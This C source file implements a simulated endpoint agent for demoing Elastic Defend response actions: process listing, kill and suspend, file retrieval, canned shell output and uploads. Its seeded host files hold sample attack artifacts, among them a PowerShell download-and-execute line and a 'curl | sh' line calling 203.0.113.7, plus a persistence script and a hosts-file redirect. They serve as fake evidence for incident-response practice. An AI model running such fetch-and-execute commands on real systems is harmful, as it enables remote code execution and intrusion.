#include "config.h"
#include "demo/demo_agent.h"
#include "core/sha256.h"
#include "core/strbuf.h"
#include "core/xalloc.h"
#include "demo/demo_data.h"
#include "demo/demo_names.h"
#include "demo/demo_util.h"
#include "demo/demo_zip.h"
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

/* The files hosts start with, by OS: evidence to retrieve, a hosts file, a log. */
static const struct {
	unsigned os;
	const char *path;
	const char *text;
} start_files[] = {
	{DEMO_OS_WINDOWS, "C:\\Users\\Public\\odu.exe",
	 "MZ\x90 This program cannot be run in DOS mode.\r\n(demo sample: a dropper seen beaconing to 203.0.113.7)\r\n"},
	{DEMO_OS_WINDOWS, "C:\\Windows\\Temp\\update.ps1",
	 "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\r\n"},
	{DEMO_OS_WINDOWS, "C:\\Windows\\System32\\drivers\\etc\\hosts",
	 "127.0.0.1 localhost\r\n203.0.113.7 update.microsoft-cdn.example\r\n"},
	{DEMO_OS_LINUX | DEMO_OS_MACOS, "/tmp/.x", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"},
	{DEMO_OS_LINUX | DEMO_OS_MACOS, "/etc/hosts", "127.0.0.1 localhost\n::1 localhost\n"},
	{DEMO_OS_LINUX, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n"},
	{DEMO_OS_LINUX, "/var/log/auth.log",
	 "May  2 09:58:01 sshd[4102]: Accepted publickey for deploy from 198.51.100.23 port 52110\n"
	 "May  2 09:59:13 sudo: deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/tmp/.x\n"},
	{DEMO_OS_MACOS, "/Users/Shared/.agent", "#!/bin/zsh\nnohup /tmp/.x >/dev/null 2>&1 &\n"},
};

/* Where the agent puts uploaded files (Elastic Defend's response-actions folder). */
static const char *upload_dir(const struct demo_host *h)
{
	return h->os == DEMO_OS_WINDOWS ? "C:\\Program Files\\Elastic\\Endpoint\\state\\response_actions\\uploads"
					: "/opt/Elastic/Endpoint/state/response_actions/uploads";
}

static void add_file(struct demo_host *h, const char *path, const void *data, size_t len)
{
	h->hfiles = xreallocarray(h->hfiles, h->nhfiles + 1, sizeof(*h->hfiles));
	struct demo_hostfile *f = &h->hfiles[h->nhfiles++];
	f->path = xstrdup(path);
	f->data = xmalloc(len + 1);
	memcpy(f->data, data, len);
	f->data[len] = '\0';
	f->len = len;
}

void demo_agent_files_generate(struct demo_host *h)
{
	for (size_t i = 0; i < sizeof(start_files) / sizeof(*start_files); i++)
		if (start_files[i].os & h->os)
			add_file(h, start_files[i].path, start_files[i].text, strlen(start_files[i].text));
}

void demo_agent_files_free(struct demo_host *h)
{
	for (size_t i = 0; i < h->nhfiles; i++) {
		free(h->hfiles[i].path);
		free(h->hfiles[i].data);
	}
	free(h->hfiles);
	h->hfiles = NULL;
	h->nhfiles = 0;
}

struct demo_hostfile *demo_agent_file(struct demo_host *h, const char *path)
{
	/* Windows paths are not case-sensitive. */
	for (size_t i = 0; path && i < h->nhfiles; i++)
		if (h->os == DEMO_OS_WINDOWS ? !strcasecmp(h->hfiles[i].path, path) : !strcmp(h->hfiles[i].path, path))
			return &h->hfiles[i];
	return NULL;
}

struct demo_kept *demo_kept_add(struct demo_data *d, const char *id, const char *action_id, const char *agent_id,
				const char *name, const void *data, size_t len, int64_t at)
{
	d->kept = xreallocarray(d->kept, d->nkept + 1, sizeof(*d->kept));
	struct demo_kept *k = &d->kept[d->nkept++];
	k->id = xstrdup(id);
	k->action_id = xstrdup(action_id);
	k->agent_id = xstrdup(agent_id);
	k->name = xstrdup(name);
	k->data = xmalloc(len + 1);
	memcpy(k->data, data, len);
	k->len = len;
	k->created_ms = at;
	return k;
}

struct demo_kept *demo_kept_find(struct demo_data *d, const char *id)
{
	for (size_t i = 0; i < d->nkept; i++)
		if (!strcmp(d->kept[i].id, id))
			return &d->kept[i];
	return NULL;
}

void demo_kept_free(struct demo_data *d)
{
	for (size_t i = 0; i < d->nkept; i++) {
		free(d->kept[i].id);
		free(d->kept[i].action_id);
		free(d->kept[i].agent_id);
		free(d->kept[i].name);
		free(d->kept[i].data);
	}
	free(d->kept);
	d->kept = NULL;
	d->nkept = 0;
}

/* Kibana's zip of an agent's files for an action, password "elastic", kept as "<action>.<agent>". */
static void keep_zip(struct demo_data *d, const struct demo_host *h, const char *action_id, const char *name,
		     const struct demo_zip_entry *e, size_t n, int64_t at)
{
	char *id = xasprintf("%s.%s", action_id, h->agent_id);
	if (!demo_kept_find(d, id)) {
		size_t len;
		unsigned char *zip = demo_zip(e, n, "elastic", (uint64_t)at ^ h->ip4, &len);
		demo_kept_add(d, id, action_id, h->agent_id, name, zip, len, at);
		free(zip);
	}
	free(id);
}

static json_t *process_entries(const struct demo_host *h)
{
	json_t *entries = json_array();
	for (size_t i = 0; i < h->nprocs; i++) {
		if (h->procs[i].killed)
			continue;
		char pid[16];
		snprintf(pid, sizeof(pid), "%u", h->procs[i].pid);
		json_array_append_new(entries, json_pack("{s:s, s:s, s:s, s:s}", "command", h->procs[i].cmdline, "pid", pid,
							 "entity_id", h->procs[i].entity_id, "user", h->procs[i].user));
	}
	return entries;
}

/* The process a kill or suspend names (by pid or entity_id), or NULL. */
static struct demo_proc *target_proc(struct demo_host *h, json_t *params)
{
	json_t *pid = json_object_get(params, "pid");
	const char *ent = demo_jstr(params, "entity_id");
	for (size_t i = 0; i < h->nprocs; i++)
		if (!h->procs[i].killed && ((json_is_integer(pid) && h->procs[i].pid == json_integer_value(pid)) ||
					    (ent && strcmp(h->procs[i].entity_id, ent) == 0)))
			return &h->procs[i];
	return NULL;
}

static json_t *run_process(struct demo_host *h, bool kill, json_t *params, bool apply, char **err)
{
	struct demo_proc *p = target_proc(h, params);
	json_t *pid = json_object_get(params, "pid");
	if (!p) {
		*err = pid ? xasprintf("Process not found: no process with pid %lld is running on %s",
				       (long long)json_integer_value(pid), h->hostname)
			   : xasprintf("Process not found: no process with entity_id %s is running on %s",
				       demo_jstr(params, "entity_id"), h->hostname);
		return json_pack("{s:s}", "code", kill ? "ra_kill-process_error_not-found" : "ra_suspend-process_error_not-found");
	}
	json_t *out = json_pack("{s:s, s:s, s:I, s:s}", "code", kill ? "ra_kill-process_success" : "ra_suspend-process_success",
				"command", p->name, "pid", (json_int_t)p->pid, "entity_id", p->entity_id);
	/* A suspended process still runs (and is listed); a killed one is gone. */
	if (apply && kill)
		p->killed = true;
	else if (apply)
		p->suspended = true;
	return out;
}

static const char *base_name(const char *path)
{
	const char *b = path;
	for (const char *p = path; *p; p++)
		if (*p == '/' || *p == '\\')
			b = p + 1;
	return *b ? b : path;
}

static json_t *run_get_file(struct demo_data *d, struct demo_host *h, const char *action_id, json_t *params,
			    int64_t at, char **err)
{
	const char *path = demo_jstr(params, "path");
	struct demo_hostfile *f = demo_agent_file(h, path);
	if (!f) {
		*err = xasprintf("File not found: %s does not exist on %s", path ? path : "(no path)", h->hostname);
		return json_pack("{s:s}", "code", "ra_get-file_error_not-found");
	}
	const char *name = base_name(f->path);
	struct demo_zip_entry e = {name, f->data, f->len};
	char *zip_name = xasprintf("%s.zip", name);
	keep_zip(d, h, action_id, zip_name, &e, 1, at);
	free(zip_name);
	char *id = xasprintf("%s.%s", action_id, h->agent_id);
	struct demo_kept *k = demo_kept_find(d, id);
	free(id);
	char sha[SHA256_HEX_LEN + 1];
	sha256_hex(f->data, f->len, sha);
	return json_pack("{s:s, s:I, s:[{s:s, s:s, s:I, s:s, s:s}]}", "code", "ra_get-file_success_done", "zip_size",
			 (json_int_t)(k ? k->len : 0), "contents", "path", f->path, "sha256", sha, "size",
			 (json_int_t)f->len, "file_name", name, "type", "file");
}

static json_t *run_scan(struct demo_host *h, json_t *params, char **err)
{
	const char *path = demo_jstr(params, "path");
	size_t pl = path ? strlen(path) : 0;
	/* A file, or a folder some file is in. */
	for (size_t i = 0; pl && i < h->nhfiles; i++)
		if (!strncasecmp(h->hfiles[i].path, path, pl) &&
		    (!h->hfiles[i].path[pl] || h->hfiles[i].path[pl] == '/' || h->hfiles[i].path[pl] == '\\' ||
		     path[pl - 1] == '/' || path[pl - 1] == '\\'))
			return json_pack("{s:s}", "code", "ra_scan_success_done");
	*err = xasprintf("Scan failed: %s does not exist on %s", path ? path : "(no path)", h->hostname);
	return json_pack("{s:s}", "code", "ra_scan_error_not-found");
}

static json_t *run_upload(struct demo_data *d, struct demo_host *h, json_t *params, bool apply, char **err)
{
	const char *name = demo_jstr(params, "file_name");
	struct demo_kept *k = demo_kept_find(d, demo_jstr(params, "file_id") ? demo_jstr(params, "file_id") : "");
	char *path = xasprintf("%s%c%s", upload_dir(h), h->os == DEMO_OS_WINDOWS ? '\\' : '/', name ? name : "upload");
	struct demo_hostfile *there = demo_agent_file(h, path);
	json_t *out;
	if (!k) {
		*err = xstrdup("Upload failed: the agent could not download the file from Kibana");
		out = json_pack("{s:s}", "code", "ra_upload_download-failed");
	} else if (there && !json_is_true(json_object_get(params, "overwrite"))) {
		*err = xasprintf("Upload failed: %s already exists on %s (send overwrite to replace it)", path, h->hostname);
		out = json_pack("{s:s}", "code", "ra_upload_already-exists");
	} else {
		if (apply && there) {
			free(there->data);
			there->data = xmalloc(k->len + 1);
			memcpy(there->data, k->data, k->len);
			there->data[k->len] = '\0';
			there->len = k->len;
		} else if (apply) {
			add_file(h, path, k->data, k->len);
		}
		out = json_pack("{s:s, s:s, s:I}", "code", "ra_upload_file-success", "path", path, "disk_free_space",
				(json_int_t)24523562624LL);
	}
	free(path);
	return out;
}

/* ---- execute: canned answers to common commands ---- */

/* What a shell prints; code is its exit status. */
struct shell_out {
	struct strbuf out, err;
	int code;
};

/* The file an argument names (relative names are looked for by their ending), or NULL. */
static struct demo_hostfile *shell_file(struct demo_host *h, const char *arg)
{
	struct demo_hostfile *f = demo_agent_file(h, arg);
	size_t al = strlen(arg);
	for (size_t i = 0; !f && al && i < h->nhfiles; i++) {
		size_t pl = strlen(h->hfiles[i].path);
		if (pl > al && !strcasecmp(h->hfiles[i].path + pl - al, arg))
			f = &h->hfiles[i];
	}
	return f;
}

static void shell_run(struct demo_host *h, const char *line, struct shell_out *o)
{
	bool win = h->os == DEMO_OS_WINDOWS;
	char word[64] = "";
	size_t wl = strcspn(line, " \t");
	snprintf(word, sizeof(word), "%.*s", (int)(wl < sizeof(word) ? wl : sizeof(word) - 1), line);
	for (char *c = word; *c; c++)
		*c = (char)tolower((unsigned char)*c);
	const char *arg = line + wl;
	while (*arg == ' ' || *arg == '\t')
		arg++;
	if (!strcmp(word, "whoami")) {
		strbuf_puts(&o->out, win ? "nt authority\\system\n" : "root\n");
	} else if (!strcmp(word, "hostname")) {
		strbuf_printf(&o->out, "%s\n", h->hostname);
	} else if (!strcmp(word, "id") && !win) {
		strbuf_puts(&o->out, "uid=0(root) gid=0(root) groups=0(root)\n");
	} else if (!strcmp(word, "uname") && !win) {
		strbuf_printf(&o->out, "%s %s %s x86_64\n", h->os == DEMO_OS_MACOS ? "Darwin" : "Linux", h->hostname,
			      h->os_kernel);
	} else if (!strcmp(word, "ps") || !strcmp(word, "tasklist") || !strcmp(word, "get-process")) {
		strbuf_printf(&o->out, "%7s %-22s %s\n", "PID", "USER", "COMMAND");
		for (size_t i = 0; i < h->nprocs; i++)
			if (!h->procs[i].killed)
				strbuf_printf(&o->out, "%7u %-22s %s%s\n", h->procs[i].pid, h->procs[i].user, h->procs[i].name,
					      h->procs[i].suspended ? " (suspended)" : "");
	} else if (!strcmp(word, "ls") || !strcmp(word, "dir") || !strcmp(word, "get-childitem")) {
		const char *dir = *arg && *arg != '-' ? arg : "";
		size_t n = 0;
		for (size_t i = 0; i < h->nhfiles; i++) {
			if (strncasecmp(h->hfiles[i].path, dir, strlen(dir)) != 0)
				continue;
			strbuf_printf(&o->out, "%10zu %s\n", h->hfiles[i].len, h->hfiles[i].path);
			n++;
		}
		if (!n) {
			strbuf_printf(&o->err, "%s: cannot access '%s': No such file or directory\n", word, dir);
			o->code = 2;
		}
	} else if (!strcmp(word, "cat") || !strcmp(word, "type") || !strcmp(word, "get-content")) {
		struct demo_hostfile *f = *arg ? shell_file(h, arg) : NULL;
		if (f) {
			strbuf_add(&o->out, f->data, f->len);
		} else {
			strbuf_printf(&o->err, "%s: %s: No such file or directory\n", word, arg);
			o->code = 1;
		}
	} else if (!strcmp(word, "ipconfig") || !strcmp(word, "ifconfig") || !strcmp(word, "ip")) {
		strbuf_printf(&o->out, "inet %s  ether %s\n", h->ip, h->mac);
	} else if (!strcmp(word, "echo") || !strcmp(word, "write-output")) {
		strbuf_printf(&o->out, "%s\n", arg);
	} else if (win) {
		strbuf_printf(&o->err, "%s : The term '%s' is not recognized as the name of a cmdlet, function, script file, "
				       "or operable program.\n", word, word);
		o->code = 1;
	} else {
		strbuf_printf(&o->err, "bash: %s: command not found\n", word);
		o->code = 127;
	}
}

static json_t *run_execute(struct demo_data *d, struct demo_host *h, const char *action_id, json_t *params,
			   int64_t at)
{
	struct shell_out o = {.code = 0};
	strbuf_init(&o.out);
	strbuf_init(&o.err);
	const char *cmd = demo_jstr(params, "command");
	shell_run(h, cmd ? cmd : "", &o);
	struct demo_zip_entry e[] = {{"stdout.txt", o.out.buf, o.out.len}, {"stderr.txt", o.err.buf, o.err.len}};
	keep_zip(d, h, action_id, "full-output.zip", e, 2, at);
	char *fid = xasprintf("%s.%s", action_id, h->agent_id);
	bool win = h->os == DEMO_OS_WINDOWS;
	json_t *out = json_pack("{s:s, s:s, s:s, s:b, s:b, s:i, s:s, s:s, s:s, s:b, s:b}", "code", "ra_execute_success_done",
				"stdout", o.out.buf, "stderr", o.err.buf, "stdout_truncated", 0, "stderr_truncated", 0,
				"shell_code", o.code, "shell", win ? "powershell" : "bash", "cwd",
				win ? "C:\\Windows\\system32" : "/root", "output_file_id", fid, "output_file_stdout_truncated", 0,
				"output_file_stderr_truncated", 0);
	free(fid);
	strbuf_free(&o.out);
	strbuf_free(&o.err);
	return out;
}

json_t *demo_agent_run(struct demo_data *d, struct demo_host *h, const char *action_id, const char *cmd, json_t *params,
		       bool apply, int64_t at, char **err)
{
	if (!strcmp(cmd, "running-processes"))
		return json_pack("{s:s, s:o}", "code", "ra_running-processes_success_done", "entries", process_entries(h));
	if (!strcmp(cmd, "suspend-process") || !strcmp(cmd, "kill-process"))
		return run_process(h, cmd[0] == 'k', params, apply, err);
	if (!strcmp(cmd, "get-file"))
		return run_get_file(d, h, action_id, params, at, err);
	if (!strcmp(cmd, "execute"))
		return run_execute(d, h, action_id, params, at);
	if (!strcmp(cmd, "scan"))
		return run_scan(h, params, err);
	if (!strcmp(cmd, "upload"))
		return run_upload(d, h, params, apply, err);
	return NULL;
}
